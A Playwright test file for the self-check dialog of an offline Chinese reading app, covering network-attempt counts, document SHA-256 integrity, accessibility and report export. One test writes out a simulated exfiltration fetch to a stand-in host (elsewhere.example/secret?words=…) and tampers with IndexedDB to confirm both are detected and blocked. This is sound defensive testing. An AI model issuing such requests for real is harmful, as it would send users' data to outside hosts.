import { readFileSync } from "node:fs";
import type { Page } from "playwright/test";
import { violations } from "./axe.ts";
import { expect, test } from "./fixtures.ts";
import { screen } from "./screen.ts";

const open = async (page: Page) => {
  await expect(screen(page).tree).toBeVisible();
  await screen(page).box.fill("体检");
  await page.getByRole("option", { name: /体检/ }).first().click();
  const dialog = page.getByRole("dialog", { name: "体检" });
  await expect(dialog).not.toContainText("检查中", { timeout: 40_000 });
  return dialog;
};

test("the checkup says what is well: no network, every work as it was installed, by its whole sum", async ({
  page,
}, testInfo) => {
  const dialog = await open(page);
  await expect(dialog).toContainText("网络尝试0 次正常");
  await expect(dialog).toContainText("5 部，本机所存与装入时逐字节一致");
  await expect(dialog).toContainText("本次启动以来没有正常");
  for (const name of ["程序", "网络", "文献", "检索", "您写的内容", "存储", "字体", "运行"])
    await expect(dialog.getByRole("region", { name, exact: true })).toBeVisible();
  expect(await violations(page)).toEqual([]);
  await page.screenshot({ path: testInfo.outputPath("checkup.png") });
  for (const theme of ["warm", "night", "projection"]) {
    await page.evaluate((name) => {
      document.documentElement.dataset.theme = name;
    }, theme);
    expect(await violations(page), theme).toEqual([]);
    await page.screenshot({ path: testInfo.outputPath(`${theme}.png`) });
  }
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    dialog.getByRole("button", { name: "导出体检结果" }).click(),
  ]);
  await expect(dialog.getByRole("status")).toHaveText("已导出体检结果。");
  expect(download.suggestedFilename()).toBe("兰台体检结果.txt");
  const text = readFileSync(await download.path(), "utf8");
  expect(text).toContain("［正常］网络尝试：0 次");
  const sums = await page.evaluate(async () => {
    const { works } = await (await fetch("./bundle/manifest.json")).json();
    return works.map(({ document: { sha256 } }: { document: { sha256: string } }) => sha256);
  });
  expect(sums).toHaveLength(5);
  for (const sum of sums) expect(text).toContain(`SHA-256 ${sum}`);
});

test.describe("a page that is not as it should be", () => {
  test.use({ allowed: /Content Security Policy|Refused|violates/ });

  test("a try to reach the network and a document that is another are noticed, with what to do", async ({
    page,
  }) => {
    await expect(screen(page).tree).toBeVisible();
    await page.evaluate(async () => {
      await fetch("https://elsewhere.example/secret?words=第一条").catch(() => {});
      const answer = <T>(request: IDBRequest<T>) =>
        new Promise<T>((resolve, reject) => {
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
      const database = await answer(indexedDB.open("lantai-library"));
      const store = database.transaction("documents", "readwrite").objectStore("documents");
      const [row] = await answer(store.getAll());
      row.document.units[0].heading = "改动过的";
      await answer(store.put(row));
      database.close();
    });
    const dialog = await open(page);
    await expect(dialog).toContainText("需要注意：网络尝试、文献校验、资料保管。");
    await expect(dialog).toContainText("1 次，均已拦下注意");
    await expect(dialog).toContainText("请求　elsewhere.example　1 次");
    await expect(dialog).not.toContainText("secret");
    await expect(dialog).toContainText("1 部与装入时不一致注意您写的批注不受影响");
  });
});
